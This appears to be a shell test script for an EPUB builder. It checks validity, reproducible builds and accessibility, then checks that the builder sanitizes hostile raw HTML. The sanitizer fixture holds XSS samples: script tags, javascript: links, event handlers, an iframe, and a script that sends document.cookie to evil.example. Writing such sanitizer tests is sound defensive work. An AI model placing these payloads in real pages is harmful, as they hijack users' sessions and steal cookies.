# The EPUB collection of the group's posts, and of a post with hostile raw
# HTML: valid for epubcheck (0 errors, 0 warnings), rendered by a second
# reader (mutool), byte-identical when built twice.
. "$(dirname "$0")/lib.sh"
command -v java >/dev/null && [ -f /usr/share/java/epubcheck.jar ] || skip "java or epubcheck missing"
command -v unzip >/dev/null || skip "unzip missing"
cd "$FOLIO_SOURCE_DIR"
export SOURCE_DATE_EPOCH=1700000000

# ---- the group's posts ------------------------------------------------------
expect_exit 0 "build of input/" -- "$FOLIO" build --input input --out "$FOLIO_WORK_DIR/out1"
book="$FOLIO_WORK_DIR/out1/collection.epub"
if [ -f "$book" ]; then pass "out/collection.epub written"; else fail "no out/collection.epub"; finish; fi
epubcheck_clean "$book" "the collection"

expect_exit 0 "second build, in another time zone" -- env TZ=Asia/Seoul "$FOLIO" build --input input --out "$FOLIO_WORK_DIR/out2"
if cmp -s "$book" "$FOLIO_WORK_DIR/out2/collection.epub"; then pass "two builds are byte-identical"
else fail "two builds differ"; fi

first=$(unzip -Z1 "$book" | sed -n 1p)
[ "$first" = mimetype ] && pass "mimetype is the first entry" || fail "first entry is '$first'"
# (Captured first: with pipefail, grep -q closing the pipe early fails unzip.)
mimetype_info=$(unzip -Zv "$book" mimetype)
grep -q "compression method: *none (stored)" <<<"$mimetype_info" \
    && pass "mimetype is stored" || fail "mimetype is compressed"
posts=$(ls input/*.md | wc -l)
pages=$(unzip -Z1 "$book" | grep -c '^EPUB/text/post-.*\.xhtml$')
[ "$posts" -eq "$pages" ] && pass "one XHTML page per post ($pages)" || fail "$pages post pages for $posts posts"
opf=$(unzip -p "$book" EPUB/package.opf)
grep -q "dcterms:modified\">2023-11-14T22:13:20Z<" <<<"$opf" \
    && pass "dcterms:modified from SOURCE_DATE_EPOCH" || fail "dcterms:modified is not SOURCE_DATE_EPOCH"

if command -v mutool >/dev/null; then
    rm -f "$FOLIO_WORK_DIR"/page*.png
    if mutool draw -q -o "$FOLIO_WORK_DIR/page%d.png" "$book" 1-3 2>"$FOLIO_WORK_DIR/mutool.err" &&
        [ -s "$FOLIO_WORK_DIR/page3.png" ]; then pass "mutool renders pages 1-3"
    else fail "mutool draw failed"; cat "$FOLIO_WORK_DIR/mutool.err" >&2; fi
fi

# Ace by DAISY, where it is set up (../shared/tools/ace/README.md; FOLIO_ACE
# names another ace.sh): no accessibility violations.
ace=${FOLIO_ACE:-${FOLIO_SHARED_DIR:-/nonexistent}/tools/ace/ace.sh}
if [ -x "$ace" ] || [ -f "$ace" ]; then
    ace_out=$(bash "$ace" "$book" "$FOLIO_WORK_DIR/ace" 2>&1 | tail -1)
    case "$ace_out" in
        "ace: could not run"*) echo "note: Ace not run: $ace_out" ;;
        "ace: 0 violations"*) pass "Ace: 0 violations" ;;
        *) fail "Ace: $ace_out" ;;
    esac
fi

# ---- hostile raw HTML -------------------------------------------------------
unsafe="$FOLIO_WORK_DIR/unsafe"
mkdir -p "$unsafe/input"
cat >"$unsafe/input/2024-01-02-unsafe.md" <<'MD'
---
title: "Raw HTML"
date: 2024-01-02
kind: article
---
Water is H<sub>2</sub>O<script>alert('inline')</script> and <a href="javascript:steal()" onclick="steal()">this</a> stays text.

<div onmouseover="steal()">Block text kept.<iframe src="https://evil.example/"></iframe></div>

<script>
document.location = 'https://evil.example/?' + document.cookie;
</script>

[A link](javascript:alert(1)) and <span lang="ko" onclick="x()">통일</span>.
MD
expect_exit 0 "build of a post with hostile raw HTML" -- "$FOLIO" build --input "$unsafe/input" --out "$unsafe/out"
expect_contains "$err" "2024-01-02-unsafe.md:6:" "a warning points at the line of the inline script"
expect_contains "$err" "2024-01-02-unsafe.md:8:" "a warning points at the block with the iframe"
expect_contains "$err" "2024-01-02-unsafe.md:10:" "a warning points at the script block"
expect_contains "$err" "onclick" "the event handler is named"
page=$(unzip -p "$unsafe/out/collection.epub" EPUB/text/post-unsafe.xhtml)
for bad in "<script" "alert" "javascript" "onclick" "onmouseover" "iframe" "document.cookie"; do
    if grep -qF -- "$bad" <<<"$page"; then fail "'$bad' survived in the XHTML"; else pass "no '$bad' in the XHTML"; fi
done
expect_contains "$page" "H<sub>2</sub>O" "allowed <sub> kept"
expect_contains "$page" "Block text kept." "text of a dropped element kept"
expect_contains "$page" "and <span lang=\"ko\" xml:lang=\"ko\">통일</span>." "span with lang kept once, handler dropped"
epubcheck_clean "$unsafe/out/collection.epub" "the hostile-HTML book"
finish
